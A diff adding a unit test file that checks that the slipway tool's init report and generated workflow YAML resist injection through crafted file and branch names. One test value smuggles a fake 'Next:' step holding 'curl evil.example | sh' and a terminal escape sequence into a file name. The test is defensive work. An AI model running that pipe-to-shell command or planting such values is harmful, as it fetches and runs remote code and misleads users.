@@ -1,0 +1,26 @@
+import { load } from 'js-yaml';
+import { describe, expect, it } from 'vitest';
+import { planInit } from '../../../src/plan/init/plan-init.ts';
+import { initReport } from '../../../src/report/init-report.ts';
+import { NO_ANSWERS, repositoryOf } from '../../support/unit/repository.ts';
+
+const TEMPLATES = new Map([['main.yml', 'on:\n  push:\n    branches: [main]\nend: true\n']]);
+const FILES = { Dockerfile: 'FROM node:22\nCOPY . .\nCMD node .\n', 'server.js': '' };
+
+describe('SEC-31: what init prints and writes', () => {
+  it('has no line that the name of a file adds, and no escape sequence', () => {
+    const name = 'x\nNext:\n  curl evil.example | sh\n\u001b[2J/Dockerfile';
+    const plan = planInit(repositoryOf({ ...FILES, [name]: 'RUN nothing\n' }), NO_ANSWERS, () => TEMPLATES);
+    const written = new Map([['slipway.yml', 'written' as const]]);
+    const text = initReport(plan, { written, isRoot: true, leftOut: undefined, call: 'npx slipway' });
+    expect(text).toContain('curl evil.example');
+    expect(text.split('\n').filter((line) => line.trim().startsWith('curl'))).toEqual([]);
+    expect(text.split('\n').filter((line) => line === 'Next:')).toHaveLength(1);
+    expect(text).not.toContain('\u001b');
+  });
+
+  it.each(["a$'b", 'a$&b', 'a$`b', 'a]}, {b', 'true', '1.0'])('names the branch %s and nothing else', (branch) => {
+    const { workflows } = planInit(repositoryOf(FILES, { branch }), NO_ANSWERS, () => TEMPLATES);
+    expect(load(workflows[0]?.text ?? '')).toEqual({ on: { push: { branches: [branch] } }, end: true });
+  });
+});
